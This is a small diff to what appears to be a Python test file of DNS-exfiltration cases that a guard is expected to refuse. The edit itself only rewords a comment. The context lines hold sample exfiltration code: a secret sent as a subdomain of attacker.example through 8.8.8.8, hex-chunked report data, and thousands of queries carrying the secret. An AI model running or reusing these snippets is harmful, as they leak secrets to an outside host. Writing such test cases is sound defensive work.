@@ -190,7 +190,7 @@ for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
 for tcp in (False, True):
     query(secret + ".attacker.example", server="8.8.8.8", tcp=tcp)
 """),
-    # However many there were, the names that the person allowed can still be asked for.
+    # However many there were, the names that the user allowed can still be asked for.
     refused(10, "thousands of names", "T1041", """
 for n in range(2100):
     query(f"{secret}.x{n}.example")
